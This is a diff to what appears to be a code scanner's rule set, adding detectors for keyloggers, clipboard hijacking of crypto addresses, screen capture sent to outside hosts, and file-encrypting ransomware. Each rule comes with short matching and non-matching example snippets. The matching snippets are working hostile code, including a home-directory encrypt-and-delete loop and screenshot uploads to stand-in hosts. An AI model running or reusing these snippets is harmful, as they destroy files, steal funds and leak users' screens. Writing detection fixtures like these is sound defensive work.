@@ -56,6 +56,39 @@ _DETECTORS = (
         "network program or written to a file that a later command uploads",
     ),
     Rule(
+        "malware.keylogger",
+        ("8.2",),
+        "high",
+        "code",
+        "surveillance: global keystroke capture (critical when the file also sends data out)",
+        "scripts/run.py",
+    ),
+    Rule(
+        "malware.clipboard-hijack",
+        ("8.2",),
+        "critical",
+        "code",
+        "theft: the clipboard is read and rewritten where a crypto address is recognised",
+        "scripts/run.py",
+    ),
+    Rule(
+        "malware.screen-exfiltration",
+        ("8.2",),
+        "high",
+        "code",
+        "surveillance: the screen is captured and sent to a paste site or bare IP, or "
+        "captured in a loop and uploaded",
+        "scripts/run.py",
+    ),
+    Rule(
+        "malware.encrypt-and-delete",
+        ("13.1",),
+        "critical",
+        "code",
+        "ransomware: files across home or the disk are encrypted and the originals deleted",
+        "scripts/run.py",
+    ),
+    Rule(
         "hook.build-backend",
         ("9.1",),
         "moderate",
@@ -1020,6 +1053,63 @@ EXAMPLES.update(
                 "import subprocess\nsubprocess.run(['/bin/sh', 'build.sh'], check=True)",
                 "import socket\nwith socket.create_connection(('example.invalid', 443)) as s:\n"
                 "    print('open')",
+            ),
+        ),
+        "malware.keylogger": (
+            "scripts/run.py",
+            (
+                "from pynput import keyboard\nkeyboard.Listener(on_press=print).start()",
+                "import ctypes\nwhile True:\n    s = ctypes.windll.user32.GetAsyncKeyState(65)",
+            ),
+            (
+                "import keyboard_layout\nprint(keyboard_layout.name())",
+                "# reads one line the user types\nanswer = input('Continue? ')",
+            ),
+        ),
+        "malware.clipboard-hijack": (
+            "scripts/run.py",
+            (
+                "import re, pyperclip\nt = pyperclip.paste()\n"
+                "if re.fullmatch(r'0x[a-fA-F0-9]{40}', t):\n"
+                "    pyperclip.copy('0x' + '1f' * 20)",
+            ),
+            (
+                "import pyperclip\npyperclip.copy(pyperclip.paste().strip())",
+                "PATTERNS = [r'pyperclip', r'clipboard\\.readText', r'0x[a-fA-F0-9]{40}']",
+            ),
+        ),
+        "malware.screen-exfiltration": (
+            "scripts/run.py",
+            (
+                "import requests\nfrom PIL import ImageGrab\nImageGrab.grab().save('/tmp/s.png')\n"
+                "requests.post('http://192.0.2.8/u', files={'f': open('/tmp/s.png', 'rb')})",
+                "import time, requests, pyautogui\nwhile True:\n"
+                "    pyautogui.screenshot('/tmp/s.png')\n"
+                "    requests.post('https://cdn.invalid/u',\n"
+                "                  files={'f': open('/tmp/s.png', 'rb')})\n"
+                "    time.sleep(60)",
+            ),
+            (
+                "from PIL import ImageGrab\nImageGrab.grab().save('before.png')",
+                "import pyautogui\npyautogui.screenshot('step1.png')\nprint('saved step1.png')",
+            ),
+        ),
+        "malware.encrypt-and-delete": (
+            "scripts/run.py",
+            (
+                "import os\nfrom cryptography.fernet import Fernet\n"
+                "f = Fernet(Fernet.generate_key())\n"
+                "for root, _, names in os.walk(os.path.expanduser('~')):\n"
+                "    for n in names:\n        p = os.path.join(root, n)\n"
+                "        open(p + '.x', 'wb').write(f.encrypt(open(p, 'rb').read()))\n"
+                "        os.remove(p)",
+            ),
+            (
+                "import os\nfrom cryptography.fernet import Fernet\nf = Fernet(os.environ['KEY'])\n"
+                "open('backup.enc', 'wb').write(f.encrypt(open('backup.tar', 'rb').read()))",
+                "import os\nfor root, _, names in os.walk(os.path.expanduser('~')):\n"
+                "    for n in names:\n        if n.endswith('.tmp'):\n"
+                "            os.remove(os.path.join(root, n))",
             ),
         ),
         "cryptominer": (
